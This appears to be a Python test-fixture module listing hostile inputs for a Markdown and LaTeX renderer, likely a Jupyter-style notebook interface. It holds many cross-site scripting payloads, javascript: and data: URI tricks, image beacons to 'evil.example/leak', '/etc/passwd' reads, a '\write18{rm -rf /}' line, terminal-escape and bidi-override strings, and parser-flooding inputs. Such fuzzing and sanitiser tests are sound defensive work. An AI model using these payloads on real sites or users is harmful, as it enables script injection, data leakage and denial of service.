"""Texts that try to run, load, redirect, break out, hide or hang."""

from __future__ import annotations

__all__ = ["ATTACKS", "FLOODS"]

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

_HTML = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)//
<svg onload=alert(1)><circle r=1></svg>
<svg><script>alert(1)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">click</math>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">
<form action="javascript:alert(1)"><button>go</button></form>
<input autofocus onfocus=alert(1)>
<video><source onerror="alert(1)"></video>
<style>@import url(//evil.example/x.css);</style>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href="//evil.example/">
<div style="background:url(//evil.example/x)">x</div>
<a href="javascript:alert(1)">x</a>
<details open ontoggle=alert(1)>x</details>
</details></pre></div></td></table><img src=x onerror=alert(1)>
<!-- --><img src=x onerror=alert(1)><!-- -->
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo '<img src=x onerror=alert(1)>' ?>
<!DOCTYPE html><html><body onload=alert(1)>
<b <script>alert(1)</script>
<br onclick=alert(1)>
<br/onmouseover=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
\<img src=x onerror=alert(1)>
"""

_LINKS = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<javascript:alert(1)>)
[x](java&#115;cript:alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](&#1;javascript:alert(1))
[x](javascript&colon;alert(1))
[x](%6aavascript:alert(1))
[x](javascript%3aalert(1))
[x](\javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
[x](file:///etc/passwd)
[x](//evil.example/x)
[x](/lab/api/kernels)
[x](../../files/secret.ipynb)
[x](https:evil.example)
[x](https:///evil.example)
[x](https://bank.example@evil.example/)
[x](https://bank.example\@evil.example/)
[x](https://a.example/" onmouseover="alert(1))
[x](<https://a.example/" onmouseover="alert(1)>)
[x](https://a.example "t\" onmouseover=\"alert(1)")
[x](https://a.example 't"><img src=x onerror=alert(1)>')
[x](https://a.example "</a><script>alert(1)</script>")
[<img src=x onerror=alert(1)>](https://a.example)
[x](https://a.example/$\href{javascript:alert(1)}{y}$)
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,<script>alert(1)</script>>
<https://a.example/"onmouseover="alert(1)>
<x@y.example?body="onclick=alert(1)>
[x]: javascript:alert(1)
[x][y] [y]: javascript:alert(1)
[x](mailto:a@b.example?body=%0d%0abcc:evil@evil.example)
[x](command:workbench.action.terminal.new)
[x](vscode://file/etc/passwd)
[^1]: <img src=x onerror=alert(1)>
https://a.example/<script>alert(1)</script>
https://a.example/"onmouseover="alert(1)
"""

_IMAGES = rf"""
![x](https://evil.example/leak?secret=1)
![x](//evil.example/leak)
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x](data:image/png;base64,not*base64)
![x](data:image/png;base64,{PNG}" onerror="alert(1))
![x](<data:image/png;base64,{PNG}" onerror="alert(1)>)
![x" onerror="alert(1)](data:image/png;base64,{PNG})
![x](data:image/png;base64,{PNG} "t\" onerror=\"alert(1)")
![x](DATA:text/html,<script>alert(1)</script>)
![x](javascript:alert(1))
[![x](https://evil.example/leak)](https://a.example)
[![x](https://evil.example/leak)](javascript:alert(1))
![![x](https://evil.example/a)](https://evil.example/b)
!\[x](javascript:alert(1))
![x][y]
"""

_CODE = r"""
`<img src=x onerror=alert(1)>`
``<img src=x onerror=alert(1)>` <img src=y onerror=alert(1)>``
`unbalanced <img src=x onerror=alert(1)>
``a` ``b` `<img src=x onerror=alert(1)>
`a`\(\href{javascript:alert(1)}{y}\)``x`<img src=x onerror=alert(1)>``
\\``$``\\`$<img src=x onerror=alert(1)>`
\href\href`` ` <img src=x onerror=alert(1)>``
| a | b | <img src=x onerror=alert(1)> |
```"><img src=x onerror=alert(1)>
~~~html onclick=alert(1) <img src=x onerror=alert(1)>
`\input{/etc/passwd}`{=latex}
`$<img src=x onerror=alert(1)>\begin{align}`$\end{align}$
`<img src=x onerror=alert(1)>\begin{a}` ``\end{a}``
`<img src=x onerror=alert(1)>\\(` ``\\)``
`<img src=x onerror=alert(1)>\\[` $\\]$
$x$`<img src=x onerror=alert(1)>$`$y$
${\\}$ `<img src=x onerror=alert(1)>` $y$
$x$$$y$$`<img src=x onerror=alert(1)>` $z$
"""

_TEX = r"""
$\href{javascript:alert(1)}{x}$
$$\href{javascript:alert(1)}{x}$$
\(\href{javascript:alert(1)}{x}\)
\[\href{javascript:alert(1)}{x}\]
\\(\href{javascript:alert(1)}{x}\\)
\$\href{javascript:alert(1)}{x}\$
$\\href{javascript:alert(1)}{x}$
$\\\href{javascript:alert(1)}{x}$
$&#92;href{javascript:alert(1)}{x}$
&#36;&#92;href{javascript:alert(1)}{x}&#36;
$a$\href{javascript:alert(1)}{x}$b$
\begin{align}\href{javascript:alert(1)}{x}\end{align}
\begin{href}{javascript:alert(1)}{x}\end{href}
$\text{\href{javascript:alert(1)}{x}}$
$\def\x{\href{javascript:alert(1)}{y}}\x$
$\let\x=\href \x{javascript:alert(1)}{y}$
$\newcommand{\x}[1]{#1}\x{y}$
$\require{html}\style{position:fixed;inset:0}{x}$
$\class{jp-Button" onclick="alert(1)}{x}$
$\cssId{evil}{x}$
$\unicode[x" onmouseover="alert(1)]{65}$
$\bbox[background:url(//evil.example)]{x}$
$\mmlToken{mi}[href="javascript:alert(1)"]{x}$
$\htmlData{a=b}{x}$
$\csname href\endcsname{javascript:alert(1)}{x}$
$\input{/etc/passwd}$
$\immediate\write18{rm -rf /}$
$^^5cinput{/etc/passwd}$
$<img src=x onerror=alert(1)>$
$$</p><img src=x onerror=alert(1)>$$
$[x](javascript:alert(1))$
$![x](https://evil.example/leak)$
$`$ <img src=x onerror=alert(1)> $`$
$x$<img src=x onerror=alert(1)>$y$
$\text{</span><script>alert(1)</script>}$
$a{b$ \href{javascript:alert(1)}{c}$ d}$
\eqref{x} \ref{y} $\ref{z}$
"""

_BLOCKS = [
    "- item\n\n  ```html\n  <img src=x onerror=alert(1)>\n  ```\n\n  <img src=x onerror=alert(1)>",
    "- ```\n  $\n  ```\n- ````\n  $\n  ```\n  <img src=x onerror=alert(1)>\n  ````",
    "- ```\n  $\n  ```\n  $x$\n  ```\n  <img src=x onerror=alert(1)>\n  ```",
    "> ```\n> $\n> ```\n> $x$\n> ```\n> <img src=x onerror=alert(1)>\n> ```",
    "> - ```\n>   \\begin{a}\n>   ```\n>   ```\n>   \\end{a}\n>   <img src=x onerror=alert(1)>\n>   ```",
    "```\n\\begin{a}\n```\n`\\end{a}` `<img src=x onerror=alert(1)>`",
    "```\n````\n<img src=x onerror=alert(1)>\n```\n<img src=y onerror=alert(1)>",
    "~~~\n```\n<img src=x onerror=alert(1)>\n~~~",
    "```\n</code></pre></div></details><img src=x onerror=alert(1)>\n```",
    "    indented\n\n    <img src=x onerror=alert(1)>\n<img src=y onerror=alert(1)>",
    "> - > <img src=x onerror=alert(1)>\n> <script>\nalert(1)\n</script>",
    "| <script> | b |\n|---|---|\n| `</td>|` | <img src=x onerror=alert(1)> |\n| | x | y |",
    "| a |\n|---|\n| <table><tr><td onclick=alert(1)> |\n| $\\href{javascript:alert(1)}{x}$ |",
    "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
    "<div\n\nonclick=alert(1)>x",
    "<a href='\n\njavascript:alert(1)'>x</a>",
    "[x](\njavascript:alert(1)\n)",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    "[x]\n\n> [x]: javascript:alert(1)",
    "$$\n[x]: javascript:alert(1)\n$$\n\n[x]",
    "$$\n<script>\nalert(1)\n</script>\n$$",
    "$$\n\n<img src=x onerror=alert(1)>\n\n$$",
    "$$x\n\n- <img src=x onerror=alert(1)>$$",
    "\\[\n\\href{javascript:alert(1)}{x}\n\\]",
    "# <img src=x onerror=alert(1)> {#id onclick=alert(1)}",
    "x\n===\n<img src=x onerror=alert(1)>\n---",
    "a\n\n***\n\n1) <script>\n2) alert(1)\n3) </script>",
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b[2J\x1b[31mred\x1b[0m \x9b1m \x1bP+q\x1b\\ \x1b]0;title\x07",
    "java\x00script <scr\x00ipt>alert(1)</scr\x00ipt>",
    "[x](java\x00script:alert(1)) [y](\x01javascript:alert(1)) [z](\x85javascript:alert(1))",
    "<\x00img src=x onerror=alert(1)> <\x1b[0mimg src=x onerror=alert(1)>",
    "safe\rrm -rf /\b\b\b\x7f",
    "access = 'user\u202e \u2066// admin\u2069 \u2066'; &#x202e;gpj.exe &#8294;",
    "`\u202e` [\u202eevil](https://a.example/\u202e 'x\u202ey')",
    "\ud800 lone \udfff [\ud800](https://a.example/\ud800 '\udc00')",
    "\ufeff<img src=x onerror=alert(1)>\u2028<img src=y onerror=alert(1)>",
    "@@0@@ $x$ @@1@@ <img src=x onerror=alert(1)>",
    f"![ok](data:image/png;base64,{PNG})",
]

FLOODS = [
    start * (10_000 // len(start)) + end
    for start, end in [
        ("[", ""), ("![", ""), ("]", ""), ("[a](", ""), ("[](", ")"), ("[a](<", ">"), ("](", ""),
        (">", ""), ("> ", ""), ("- ", "x"), ("1. ", "x"), (">- ", "x"), ("* a\n", ""), ("#", ""),
        ("*", ""), ("*a ", ""), ("a* ", ""), ("**a", "**"), ("_", ""), ("*a_ ", ""), ("~~", ""),
        ("`", ""), ("`a", ""), ("`" * 3 + "\n", ""), ("``a`", ""), ("\\", ""), ("\\`", "`"),
        ("<", ""), ("<a", ""), ("<br", ""), ("<http://", ""), ("<!--", ""), ("&", ""), ("&#", ""),
        ("$", ""), ("$a", ""), ("${", ""), ("$ ", ""), ("$$", ""), ("$$a\n", ""), ("a$", "$"),
        (r"\(", ""), (r"\(", r"\)"), (r"\({", r"\)"), (r"\[", ""), (r"\[a", r"\]"), (r"\\(", r"\\)"),
        ("\\begin{align}", ""), ("\\begin{align}\n", "\\end{align}"), ("$$\n", ""), ("\\[\n", ""),
        ("|", ""), ("|a", "\n|-"), ("| a ", "|\n" + "|-" * 2_500 + "|\n"), ("a\n", "---"),
        ("\n", ""), (" ", "x"), ("\t", "x"), ("a  \n", ""), ("\r", ""), ("\x1b[", ""), ("\x1b]", ""),
        ("https://", ""), ("https://.", ""), ("http://a.,", ""), ("a@b.", ""), ("\u202e", ""),
        ("```python\n", ""), ("1", "."), ("0. ", ""), ("!", "[a](b)"), ("[^1]", ""), ("=\n", ""),
    ]
]  # fmt: skip

ATTACKS = [
    *(
        line
        for group in (_HTML, _LINKS, _IMAGES, _CODE, _TEX)
        for line in group.split("\n")
        if line
    ),
    *_BLOCKS,
]
